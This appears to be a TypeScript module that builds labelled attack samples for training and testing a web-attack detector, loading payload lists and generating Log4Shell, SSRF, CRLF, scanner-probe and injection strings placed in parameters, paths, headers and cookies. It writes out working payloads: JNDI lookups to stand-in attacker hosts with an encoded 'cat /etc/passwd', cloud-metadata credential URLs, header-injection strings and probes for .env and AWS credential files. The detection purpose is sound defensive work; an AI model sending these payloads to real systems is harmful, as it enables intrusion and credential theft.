/**
 * Attack samples: the shared payload lists (split by line into train/test), generators for the classes
 * no list covers (Log4Shell, SSRF, CRLF, scanner probes), and the project's grammar for the classes
 * whose lists are short (SSTI, NoSQL and LDAP injection, open redirect, command injection). Payloads
 * are placed the way attackers send them: as parameter values mostly, and as path segments, headers
 * and cookies too.
 */
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { PAYLOAD_LISTS, type AttackClass } from "../classes.ts";
import { encodeLike, pick, rng, splitPoint, type Sample } from "./sample.ts";
import { grammarPayload } from "./grammar.ts";

/** Share of each payload list held out for evaluation (by a hash of the line, so it is stable). */
export const PAYLOAD_TEST_SHARE = 0.3;

const FILES = ["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "etc/hosts", "proc/self/environ", "var/log/apache2/access.log", "windows/system32/drivers/etc/hosts"];

export interface PayloadLine {
  cls: AttackClass;
  list: string;
  payload: string;
}

/** Lines of the payload lists, `{FILE}` placeholders filled, for one side of the split. */
export function loadPayloadLines(datasets: string, side: "train" | "test"): PayloadLine[] {
  const out: PayloadLine[] = [];
  for (const [list, cls] of Object.entries(PAYLOAD_LISTS)) {
    const path = join(datasets, "payloads", `${list}.txt`);
    if (!existsSync(path)) continue;
    const lines = readFileSync(path, "utf8").split("\n").map((l) => l.replace(/\r$/, "")).filter((l) => l.trim() !== "");
    lines.forEach((line, i) => {
      if ((splitPoint(`${list}:${line}`) < PAYLOAD_TEST_SHARE ? "test" : "train") !== side) return;
      out.push({ cls, list, payload: line.replaceAll("{FILE}", FILES[i % FILES.length]!) });
    });
  }
  return out;
}

const PARAM_NAMES = ["id", "q", "search", "page", "file", "name", "user", "url", "redirect", "next", "lang", "cat", "item", "path", "template", "query", "data", "callback", "email", "comment"];

/** Puts a payload somewhere an attacker would. Path placement only for classes that work there. */
function placePayload(r: () => number, cls: AttackClass, payload: string, source: string): Sample {
  const roll = r();
  const pathOk = cls === "traversal" || cls === "scanner" || cls === "cmdi" || cls === "sqli" || cls === "xss";
  if (pathOk && roll < 0.15) {
    return { location: "path", name: "", raw: `/${pick(r, ["static", "files", "download", "api/v1/items", "images"])}/${encodeLike(r, payload, "path").replaceAll("%2F", "/")}`, label: cls, source };
  }
  if (roll < 0.22) return { location: "header", name: pick(r, ["user-agent", "referer", "x-forwarded-for", "x-api-version"]), raw: payload, label: cls, source };
  if (roll < 0.27) return { location: "cookie", name: pick(r, ["session", "pref", "lang", "tracking"]), raw: payload, label: cls, source };
  const location = roll < 0.75 ? "query" : "body";
  return { location, name: pick(r, PARAM_NAMES), raw: encodeLike(r, payload, location), label: cls, source };
}

function log4shell(r: () => number): string {
  const j = pick(r, ["j", "${lower:j}", "${::-j}", "${env:NaN:-j}", "${upper:j}"]);
  const proto = pick(r, ["ldap", "ldaps", "rmi", "dns", "iiop", "${lower:l}${lower:d}a${lower:p}"]);
  const host = pick(r, ["attacker.example", "198.51.100.7:1389", "x.oast.fun", "${hostName}.c2.example", "127.0.0.1:1099"]);
  return `\${${j}ndi:${proto}://${host}/${pick(r, ["a", "Exploit", "o=tomcat", "${sys:java.version}", "Basic/Command/Base64/Y2F0IC9ldGMvcGFzc3dk"])}}`;
}

function ssrf(r: () => number): string {
  const target = pick(r, [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
    "http://127.0.0.1:22/", "http://localhost:6379/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "dict://127.0.0.1:11211/stats",
    "http://[::1]:8080/admin", "http://0x7f000001/", "http://2130706433/", "http://10.0.0.1/internal", "http://192.168.0.1/admin",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://0.0.0.0:8500/v1/agent/self", "http://127.1/server-status",
  ]);
  return target;
}

function crlf(r: () => number): string {
  return `${pick(r, ["", "/", "en", "index"])}${pick(r, ["%0d%0a", "%0a", "\r\n", "%E5%98%8A%E5%98%8D", "%0d%0a%0d%0a"])}${pick(r, ["Set-Cookie: admin=1", "Location: https://evil.example", "X-Injected: 1", "Content-Length: 0"])}`;
}

const PROBE_PATHS = [
  "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/admin/config.php",
  "/.aws/credentials", "/server-status", "/config.php.bak", "/backup.sql", "/db.sql.gz", "/.DS_Store", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/test-cgi", "/actuator/env", "/console", "/solr/admin/info/system", "/.svn/entries", "/web.config", "/index.php.bak", "/WEB-INF/web.xml",
  "/xmlrpc.php", "/.htaccess", "/api/.env", "/boaform/admin/formLogin", "/HNAP1/", "/owa/auth/logon.aspx", "/autodiscover/autodiscover.xml", "/_profiler/phpinfo",
];
const SCANNER_AGENTS = ["sqlmap/1.8.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "masscan/1.3", "Nmap Scripting Engine", "zgrab/0.x", "WPScan v3.8.25", "Acunetix-Agent", "dirbuster", "gobuster/3.6", "nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Fuzz Faster U Fool v2.1.0"];

const SHORT_LIST_CLASSES: AttackClass[] = ["ssti", "nosqli", "ldapi", "open-redirect", "cmdi"];

/** Generated samples of the classes without a shared list or with a short one, deterministic per seed. */
export function generatedAttacks(count: number, seed: number): Sample[] {
  const r = rng(seed);
  const out: Sample[] = [];
  for (let i = 0; i < count; i++) {
    const kind = i % 7;
    if (kind === 0) out.push(placePayload(r, "log4shell", log4shell(r), "grammar:log4shell"));
    else if (kind === 1) out.push({ location: "query", name: pick(r, ["url", "uri", "target", "feed", "image", "callback", "dest", "host"]), raw: encodeLike(r, ssrf(r), "query"), label: "ssrf", source: "grammar:ssrf" });
    else if (kind === 2) out.push({ location: pick(r, ["query", "path"] as const), name: "lang", raw: crlf(r), label: "crlf", source: "grammar:crlf" });
    else if (kind === 3) out.push({ location: "path", name: "", raw: pick(r, PROBE_PATHS), label: "scanner", source: "grammar:scanner-path" });
    else if (kind === 4) out.push({ location: "header", name: "user-agent", raw: pick(r, SCANNER_AGENTS), label: "scanner", source: "grammar:scanner-agent" });
    else {
      // Short probes (`{{7*7}}`, `//host`, `;id`) as well as long payloads: the lists of these classes hold few.
      const cls = pick(r, SHORT_LIST_CLASSES);
      out.push(placePayload(r, cls, grammarPayload(r, cls), `grammar:${cls}`));
    }
  }
  return out;
}

/** Payload-list samples of one side of the split, placed in varied locations. */
export function payloadSamples(datasets: string, side: "train" | "test", seed: number): Sample[] {
  const r = rng(seed);
  return loadPayloadLines(datasets, side).map((p) => placePayload(r, p.cls, p.payload, `payloads:${p.list}`));
}
